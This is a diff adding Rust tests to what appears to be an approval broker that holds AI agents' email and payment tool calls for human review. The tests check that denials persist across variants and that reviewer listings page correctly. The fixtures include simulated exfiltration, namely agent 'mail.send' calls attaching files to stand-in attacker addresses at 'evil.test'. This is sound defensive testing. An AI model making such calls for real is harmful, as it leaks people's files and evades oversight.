@@ -3,6 +3,7 @@
 use carnet::policy::bundle::BundleFiles;
 
 use super::*;
+use crate::support::ask::MANY_WAIT;
 
 fn first((outcome, codes): (Outcome, Vec<String>)) -> (Outcome, String) {
     (outcome, codes[0].clone())
@@ -84,17 +85,96 @@ async fn a_denial_is_not_got_round_by_words_that_mean_nothing() {
 }
 
 #[tokio::test]
+async fn who_was_denied_is_denied_whatever_stands_beside() {
+    let world = World::new().await;
+    let (agent, task) = world.anns().await;
+    let mail = |to: &str, cc: &[&str], files: &[&str]| {
+        let files: Vec<_> = files.iter().map(|id| json!({ "file_id": id })).collect();
+        json!({ "to": [to], "cc": cc, "attachments": files, "subject": "T-1000", "body": "It is solved." })
+    };
+    let (eve, bob) = ("eve@evil.test", "bob@example.org");
+    let asked = task.step("mail.send", &mail(eve, &[], &["f-1"]));
+    answer(&world.rae().await, &pending(&agent, asked).await, Verdict::Deny).await.unwrap();
+    let (_, other) = world.anns().await;
+    for task in [&task, &other] {
+        for (name, mail) in [
+            ("to her alone", mail(eve, &[], &[])),
+            ("with another file", mail(eve, &[], &["f-2"])),
+            ("with a copy", mail(eve, &["x1@evil.test"], &["f-1"])),
+            ("with another copy", mail(eve, &["x2@evil.test"], &[])),
+            ("as a copy", mail(bob, &["eve@EVIL.test"], &[])),
+        ] {
+            assert_eq!(first(agent.withheld(task.step("mail.send", &mail)).await), denied(), "{name}");
+        }
+        // Whom nobody denied is another question.
+        pending(&agent, task.step("mail.send", &mail("mallory@evil.test", &[], &[]))).await;
+    }
+    let waits = world.rae().await;
+    assert_eq!(listed(&waits, ApprovalState::Pending).await.len(), 2, "nobody was asked about her again");
+}
+
+#[tokio::test]
+async fn the_record_says_of_each_reason_one_sentence() {
+    let world = World::new().await;
+    let (agent, task) = world.anns().await;
+    let decision = world.to_confirm(&agent, &task).await;
+    let shown = get(&world.ann().await, &decision.approval_id).await.unwrap();
+    let (approval, record) = (shown.approval.unwrap(), shown.record.unwrap());
+    let told: Vec<&String> = record.reasons.iter().map(|reason| &reason.message).collect();
+    assert_eq!(told, approval.doubts.iter().collect::<Vec<_>>(), "as the approval says it");
+    assert!(told[0].contains(": ") && !told[0].contains(". "), "{}", told[0]);
+}
+
+#[tokio::test]
+async fn where_the_whole_was_denied_each_place_is() {
+    let world = World::new().await;
+    let (agent, task) = world.anns().await;
+    let decision = world.to_confirm(&agent, &task).await;
+    assert_eq!(codes(&decision), ["TAINTED_EXIT"], "no value of it is in doubt");
+    world.broker.advance(Duration::from_secs(2));
+    answer(&world.ann().await, &decision, Verdict::Deny).await.unwrap();
+    let agent = world.broker.agent().await;
+    for file in ["f-1", "f-2"] {
+        let files = json!([{ "file_id": file }]);
+        let mail = json!({ "to": ["bob@example.org"], "attachments": files, "subject": "T-1000", "body": "Solved." });
+        assert_eq!(first(agent.withheld(task.step("mail.send", &mail)).await), denied(), "{file}");
+    }
+}
+
+#[tokio::test]
+async fn a_tool_that_goes_by_values_is_not_known_by_words_where_a_call_has_none() {
+    let world = World::new().await;
+    let (agent, task) = world.anns().await;
+    let mail = |resource: &str| {
+        let mut request = task.step("mail.send", &json!({ "subject": "T-1000", "body": "It is solved." }));
+        request.access[0].resources = vec![resource.to_owned()];
+        request
+    };
+    agent.granted(task.reading()).await;
+    let decision = pending(&agent, mail("a")).await;
+    answer(&world.ann().await, &decision, Verdict::Deny).await.unwrap();
+    assert_eq!(first(agent.withheld(mail("b")).await), denied());
+}
+
+#[tokio::test]
 async fn the_denial_of_an_amount_is_one_of_larger_amounts_too() {
     let world = World::new().await;
     let (agent, task) = world.anns().await;
-    let pay = |amount: serde_json::Value| {
-        task.step("payments.pay", &json!({ "payee": "DE02120300000000202051", "amount": amount }))
+    let pay = |payee: &str, amount: serde_json::Value| {
+        task.step("payments.pay", &json!({ "payee": payee, "amount": amount }))
     };
-    answer(&world.rae().await, &pending(&agent, pay(json!(100))).await, Verdict::Deny).await.unwrap();
+    // The intent names the payee, and not how much that is.
+    let known = "DE89370400440532013000";
+    let rae = world.rae().await;
+    answer(&rae, &pending(&agent, pay(known, json!(100))).await, Verdict::Deny).await.unwrap();
     for amount in [json!("100.00"), json!(100.01), json!(5000)] {
-        assert_eq!(first(agent.withheld(pay(amount.clone())).await), denied(), "{amount}");
+        assert_eq!(first(agent.withheld(pay(known, amount.clone())).await), denied(), "{amount}");
     }
-    pending(&agent, pay(json!(99.99))).await;
+    pending(&agent, pay(known, json!(99.99))).await;
+    // Who was denied by himself is denied whatever the amount.
+    let stranger = "DE02120300000000202051";
+    answer(&rae, &pending(&agent, pay(stranger, json!(100))).await, Verdict::Deny).await.unwrap();
+    assert_eq!(first(agent.withheld(pay(stranger, json!(99.99))).await), denied());
 }
 
 #[tokio::test]
@@ -132,6 +212,60 @@ async fn an_approval_of_one_make_up_is_none_of_another() {
     let decision = other.decision.unwrap();
     assert_eq!(decision.outcome(), Outcome::Review, "{decision:?}");
     assert!(codes(&decision).contains(&"PROFILE_CHANGED".to_owned()), "{decision:?}");
+}
+
+#[tokio::test]
+async fn an_approval_of_a_make_up_that_was_not_told_is_none_of_one_that_is_told_first_when_it_is_renewed() {
+    let world = World::new().await;
+    let (agent, task) = world.anns().await;
+    let decision = pending(&agent, to_eve(&task)).await;
+    approve(&world.rae().await, &decision).await;
+    let granted = agent.granted(to_eve(&task)).await;
+    let same = agent.renew_credential(task.renewal(granted.id())).await.unwrap();
+    assert!(!same.token.is_empty(), "{:?}", same.decision);
+    let told = agent.renew_credential(renewal(&task, granted.id(), "m-evil")).await.unwrap().decision.unwrap();
+    assert_eq!(told.outcome(), Outcome::Review, "{told:?}");
+    assert!(codes(&told).contains(&"PROFILE_CHANGED".to_owned()), "{told:?}");
+    // What nobody approved is not held to that.
+    let (_, unasked) = world.anns().await;
+    let granted = agent.granted(unasked.reading()).await;
+    let told = agent.renew_credential(renewal(&unasked, granted.id(), "m-1")).await.unwrap();
+    assert!(!told.token.is_empty(), "{:?}", told.decision);
+}
+
+#[tokio::test]
+async fn what_policy_keeps_from_a_reviewer_hides_nothing_that_is_for_him() {
+    let world = World::asking(MANY_WAIT).await;
+    let (agent, task) = world.anns().await;
+    let rule = "context.approver.name == \"rae@example.org\" && context.initiator.verified";
+    world.broker.activate(&forbids_approving(rule)).await;
+    let mail = |to: &str| task.step("mail.send", &json!({ "to": [to], "subject": "T-1000", "body": "It is solved." }));
+    let named = v1::RegisterTaskRequest { initiator: "nightly".to_owned(), ..world.broker.task(INTENT) };
+    let first = pending(&agent, to_eve(&world.broker.orchestrator().await.open(named).await)).await;
+    for n in 0..66 {
+        pending(&agent, mail(&format!("e{n}@evil.test"))).await;
+    }
+    let rae = world.rae().await;
+    let mine =
+        |page_token: String| v1::ListApprovalsRequest { for_me: true, page_size: 1, page_token, ..Default::default() };
+    let shown = rae.approvals().list_approvals(mine(String::new())).await.unwrap().into_inner();
+    let ids: Vec<_> = shown.approvals.iter().map(|one| one.approval_id.as_str()).collect();
+    assert_eq!((ids, shown.next_page_token.as_str()), (vec![first.approval_id.as_str()], ""));
+    assert!(listed(&rae, ApprovalState::Pending).await.iter().any(|one| !one.may_approve), "she sees the others");
+    // Who is kept from none turns page by page.
+    let sam = world.corp("1006").await;
+    let (mut seen, mut token) = (Vec::new(), String::new());
+    loop {
+        let page = sam.approvals().list_approvals(mine(token)).await.unwrap().into_inner();
+        seen.extend(page.approvals.into_iter().map(|one| one.approval_id));
+        token = page.next_page_token;
+        if token.is_empty() {
+            break;
+        }
+    }
+    seen.sort_unstable();
+    seen.dedup();
+    assert_eq!(seen.len(), 67);
 }
 
 #[tokio::test]
